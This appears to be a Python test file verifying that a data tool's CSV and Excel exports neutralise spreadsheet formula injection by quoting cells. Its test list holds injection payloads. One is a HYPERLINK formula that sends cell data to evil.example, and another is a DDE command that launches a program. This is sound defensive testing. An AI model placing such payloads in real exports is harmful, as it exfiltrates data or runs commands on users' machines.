"""Issue 16: every Excel and CSV file the command line writes keeps formula-like text as
text (:mod:`rasad.export`); the platform's downloads are walked in
``tests/platform/test_formula_injection.py``."""

import csv
import io
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from rasad.cli import main
from rasad.demo import DemoPopulation, generate
from rasad.export import (
    FORMULA_STARTS,
    csv_frame,
    csv_row,
    csv_text,
    csv_unquote,
    csv_unquote_frame,
    excel_book,
    excel_value,
    write_csv,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1)",
    "\t=1+1",
    "-2+3",
    "\r=1+1",
]
ASEM = Path(__file__).parent / "fixtures" / "coinr_asem" / "ASEM_iData.csv"


# --- the helper ----------------------------------------------------------------------------


def test_csv_text_quotes_formula_text_only():
    assert [csv_text(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [csv_text(v) for v in ("plain", "نساجی یزد", "", "'=x", -2, -2.5, None)] == [
        "plain",
        "نساجی یزد",
        "",
        "'=x",
        -2,
        -2.5,
        None,
    ]
    assert csv_row(["=1", 3, "a"]) == ["'=1", 3, "a"]
    assert [csv_unquote(csv_text(v)) for v in [*FORMULAS, "plain", "'x", 5]] == [
        *FORMULAS,
        "plain",
        "'x",
        5,
    ]


def test_csv_frame_leaves_numbers_as_numbers():
    frame = pd.DataFrame(
        {
            "name": [*FORMULAS, None],
            "n": np.arange(-4, 4),
            "x": np.linspace(-1, 1, 8),
            "s": pd.array(["=a", "b", None, "-c", "d", "e", "f", "g"], dtype="string"),
            "c": pd.Categorical(["=k", "k"] * 4),
        },
        index=pd.Index(["@i", *"bcdefgh"], name="key"),
    )
    frame.columns = ["name", "n", "x", "=s", "c"]
    safe = csv_frame(frame)
    assert safe["name"].tolist()[:-1] == ["'" + f for f in FORMULAS] and pd.isna(
        safe["name"].iloc[-1]
    )
    assert safe["n"].dtype == np.int64 and (safe["n"].to_numpy() == frame["n"].to_numpy()).all()
    assert safe["x"].dtype == np.float64 and safe["x"].iloc[0] == -1.0
    assert list(safe.columns)[3] == "'=s" and safe["'=s"].tolist()[:4] == ["'=a", "b", pd.NA, "'-c"]
    assert list(safe["c"].cat.categories) == ["'=k", "k"]
    assert safe.index[0] == "'@i"
    assert frame["name"].iloc[0] == FORMULAS[0]  # the caller's frame is left alone
    buffer = io.StringIO()
    plain = frame[~frame["name"].str.contains("\r", na=False)][
        ["name", "n"]
    ]  # pandas reads CR as LF
    write_csv(plain, buffer, index=False)
    back = csv_unquote_frame(pd.read_csv(io.StringIO(buffer.getvalue()), dtype={"name": str}))
    assert back["name"].tolist()[:-1] == FORMULAS[:-1] and back["n"].tolist() == plain["n"].tolist()


def test_a_carriage_return_inside_a_name_does_not_start_a_row():
    """pandas leaves a lone CR unquoted; a spreadsheet would start a row "=1+1" there."""
    buffer = io.StringIO()
    write_csv(pd.DataFrame({"name": ["x\r=1+1", "ok"], "n": [1, 2]}), buffer, index=False)
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows == [["name", "n"], ["x\r=1+1", "1"], ["ok", "2"]]
    buffer = io.StringIO()
    write_csv(pd.DataFrame({"name": ["x", "ok"]}), buffer, index=False)
    assert buffer.getvalue() == "name\nx\nok\n"  # as pandas writes it otherwise


def test_excel_keeps_formula_text_as_text(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    for name in [*FORMULAS, "#N/A", "plain"]:
        sheet.append([name, -3, -2.5])
    excel_book(book)
    book.save(tmp_path / "a.xlsx")
    stream = openpyxl.Workbook(write_only=True)
    ws = stream.create_sheet("s")
    for name in [*FORMULAS, "#N/A", "plain"]:
        ws.append([excel_value(ws, name), excel_value(ws, -3), excel_value(ws, None)])
    stream.save(tmp_path / "b.xlsx")
    for path in ("a.xlsx", "b.xlsx"):
        rows = list(openpyxl.load_workbook(tmp_path / path).active.iter_rows())
        # XML reads a carriage return as a line feed: "\r=1+1" comes back "\n=1+1", text still
        assert [r[0].value for r in rows] == [f.replace("\r", "\n") for f in FORMULAS] + [
            "#N/A",
            "plain",
        ]
        assert all(r[0].data_type == "s" for r in rows)
        assert [r[0].quotePrefix for r in rows] == [True] * (len(FORMULAS) + 1) + [False]
        assert all(r[1].value == -3 and r[1].data_type == "n" for r in rows)


# --- every file the command line writes ----------------------------------------------------


def is_number(text: str) -> bool:
    """A negative number stays a number (written by a numeric column, unquoted)."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula(path: Path) -> set:
    """The texts of a written file, failing on a formula cell or on unquoted formula text."""
    texts = set()
    if path.suffix == ".xlsx":
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (
                        path.name,
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
                        if cell.value.startswith(FORMULA_STARTS):
                            assert cell.quotePrefix, (path.name, cell.coordinate)
    else:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (path.name, cell)
                    texts.add(cell)
    return texts


@pytest.fixture(scope="module")
def demo_dir(tmp_path_factory):
    """A small demo population whose first firms, estates and clusters are named as formulas."""
    population = generate(n_enterprises=300, seed=5)
    for frame in (population.enterprises, population.estates, population.clusters):
        n = min(len(FORMULAS), len(frame))
        frame.loc[frame.index[:n], "name_fa"] = FORMULAS[:n]
        frame.loc[frame.index[:n], "name_en"] = FORMULAS[:n]
    directory = tmp_path_factory.mktemp("demo")
    population.to_csv(directory)
    back = DemoPopulation.from_csv(directory)
    for name in ("enterprises", "estates", "clusters"):
        pd.testing.assert_frame_equal(
            back.__getattribute__(name), population.__getattribute__(name)
        )
    return directory


def test_demo_csv_files(demo_dir):
    texts = set()
    for path in demo_dir.glob("*.csv"):
        texts |= assert_no_formula(path)
    assert {"'" + f for f in FORMULAS} <= texts


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_monitor_and_cluster_files(demo_dir, tmp_path, suffix, capsys):
    data = ["--data", str(demo_dir)]
    outs = {
        name: tmp_path / f"{name}.{suffix}" for name in ("alerts", "needs", "lq", "stars", "eg")
    }
    assert main(["monitor", "alerts", *data, "--period", "1403", "--out", str(outs["alerts"])]) == 0
    assert (
        main(
            [
                "monitor",
                "needs",
                *data,
                "--period",
                "1403",
                "--by",
                "estate",
                "province",
                "--out",
                str(outs["needs"]),
            ]
        )
        == 0
    )
    assert main(["clusters", "lq", *data, "--out", str(outs["lq"])]) == 0
    assert main(["clusters", "stars", *data, "--out", str(outs["stars"])]) == 0
    assert main(["clusters", "eg", *data, "--draws", "20", "--out", str(outs["eg"])]) == 0
    texts = {name: assert_no_formula(path) for name, path in outs.items()}
    if suffix == "xlsx":  # the estates' names label the workbook's needs by estate
        assert FORMULAS[0] in texts["needs"]


@pytest.fixture
def asem_data(tmp_path):
    """ASEM with its first units' codes and one group's value written as formulas."""
    data = pd.read_csv(ASEM)
    data.loc[: len(FORMULAS) - 1, "uCode"] = [f.strip() + f"#{i}" for i, f in enumerate(FORMULAS)]
    data.loc[data["EurAsia_group"] == "Europe", "EurAsia_group"] = "=Europe"
    path = tmp_path / "asem.csv"
    data.to_csv(path, index=False)
    return path


def test_index_files(asem_data, tmp_path, capsys):
    common = ["--methodology", "asem", "--data", str(asem_data)]
    assert (
        main(
            [
                "index",
                "build",
                *common,
                "--out",
                str(tmp_path / "results.csv"),
                "--excel",
                str(tmp_path / "results.xlsx"),
                "--datasets",
                str(tmp_path / "datasets"),
            ]
        )
        == 0
    )
    assert (
        main(
            [
                "index",
                "league",
                *common,
                "--by",
                "EurAsia_group",
                "--top",
                "5",
                "--out",
                str(tmp_path / "league.csv"),
            ]
        )
        == 0
    )
    assert (
        main(
            [
                "index",
                "uncertainty",
                *common,
                "--spec",
                "asem-uncertainty",
                "--runs",
                "8",
                "--top",
                "10",
                "--out",
                str(tmp_path / "uncertainty.csv"),
                "--no-progress",
            ]
        )
        == 0
    )
    assert (
        main(
            [
                "index",
                "sensitivity",
                *common,
                "--spec",
                "asem-uncertainty",
                "--n",
                "4",
                "--bootstrap",
                "10",
                "--out",
                str(tmp_path / "sensitivity.csv"),
                "--no-progress",
            ]
        )
        == 0
    )
    units = {f.strip() + f"#{i}" for i, f in enumerate(FORMULAS)}
    for name in ("results.csv", "league.csv", "uncertainty.csv"):
        assert {"'" + u for u in units} <= assert_no_formula(tmp_path / name), name
    assert_no_formula(tmp_path / "sensitivity.csv")
    assert units <= assert_no_formula(tmp_path / "results.xlsx")
    assert "'=Europe" in assert_no_formula(tmp_path / "league.csv")  # a band named as a formula
    for path in (tmp_path / "datasets").glob("*.csv"):
        assert_no_formula(path)
    # read back as data, the quote is the only change
    ranked = pd.read_csv(tmp_path / "results.csv")
    assert {csv_unquote(u) for u in ranked["uCode"]} >= units


def test_audit_workbook(tmp_path, capsys):
    demo = tmp_path / "demo"
    assert (
        main(["demo", "generate", "--enterprises", "300", "--seed", "2", "--out", str(demo)]) == 0
    )
    assert (
        main(
            [
                "index",
                "inputs",
                "--returns",
                str(demo / "returns.csv"),
                "--enterprises",
                str(demo / "enterprises.csv"),
                "--year",
                "1403",
                "--out",
                str(tmp_path / "in.csv"),
            ]
        )
        == 0
    )
    inputs = pd.read_csv(tmp_path / "in.csv", dtype={"national_id": str})
    inputs.loc[: len(FORMULAS) - 1, "national_id"] = [
        f.strip() + f"#{i}" for i, f in enumerate(FORMULAS)
    ]
    inputs.to_csv(tmp_path / "in.csv", index=False)
    out = tmp_path / "audit.xlsx"
    assert (
        main(
            [
                "index",
                "audit",
                "--methodology",
                "sme100",
                "--data",
                str(tmp_path / "in.csv"),
                "--top",
                "20",
                "--sample",
                "2",
                "--ranks",
                "21-200",
                "--draws",
                "100",
                "--resample-size",
                "600",
                "--out",
                str(out),
                "--no-progress",
            ]
        )
        == 0
    )
    assert_no_formula(out)
